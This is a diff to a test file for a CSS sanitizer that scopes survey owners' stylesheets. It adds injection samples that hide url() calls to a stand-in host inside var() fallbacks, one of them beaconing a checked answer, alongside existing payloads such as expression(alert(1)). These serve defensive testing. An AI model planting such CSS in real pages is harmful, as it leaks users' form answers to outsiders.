@@ -2,7 +2,7 @@ import { type CssNode, generate, parse, walk } from 'css-tree';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 
-import { sanitizeOwnerCss } from './owner-css';
+import { MAX_OWNER_CSS_LENGTH, sanitizeOwnerCss } from './owner-css';
 
 const SCOPE = '.survey-42';
 
@@ -33,6 +33,11 @@ describe('sanitizeOwnerCss', () => {
       customProperty: 'p { --x: url(https://evil.test); background: var(--x) }',
       expression: 'p { width: expression(alert(1)) }',
       sibling: '~ p { display: none } + p { display: none }',
+      varFallback: '.q:checked { background: var(--nope, url(https://evil.test/log?q1=a)) }',
+      varFallbackUpper: '.q:checked { background: VAR(--nope, URL(https://evil.test/log)) }',
+      varInCalc: '.q { width: calc(var(--n, url(https://evil.test/w)) + 1px) }',
+      varListStyle: '.q:checked { list-style: var(--n, url(https://evil.test/l)) }',
+      varCursor: '.q:hover { cursor: var(--n, url(https://evil.test/c)), auto }',
     };
     const output = Object.values(corpus)
       .map((css) => sanitizeOwnerCss(css, SCOPE))
@@ -43,6 +48,21 @@ describe('sanitizeOwnerCss', () => {
     // What is harmless in those sheets survives, scoped.
     expect(sanitizeOwnerCss(corpus.breakOut, SCOPE)).toContain('.survey-42 p{color:red}');
     expect(sanitizeOwnerCss(corpus.importRule, SCOPE)).toBe('.survey-42 h1{color:red}');
+  });
+
+  it('keeps a var() of the app’s own properties, fallback and all, when nothing in it loads', () => {
+    expect(sanitizeOwnerCss('h1 { color: var(--color-primary, #123456) }', SCOPE)).toBe(
+      '.survey-42 h1{color:var(--color-primary, #123456)}',
+    );
+  });
+
+  it('drops a stylesheet too large to read on every render, and reads each one once', () => {
+    const huge = 'h1{color:red}'.repeat(6000);
+    expect(huge.length).toBeGreaterThan(MAX_OWNER_CSS_LENGTH);
+    expect(sanitizeOwnerCss(huge, SCOPE)).toBe('');
+    const sheet = 'h2 { color: blue }';
+    expect(sanitizeOwnerCss(sheet, SCOPE)).toBe(sanitizeOwnerCss(sheet, SCOPE));
+    expect(sanitizeOwnerCss(sheet, '.survey-7')).toBe('.survey-7 h2{color:blue}');
   });
 
   it('allows position only within the flow', () => {
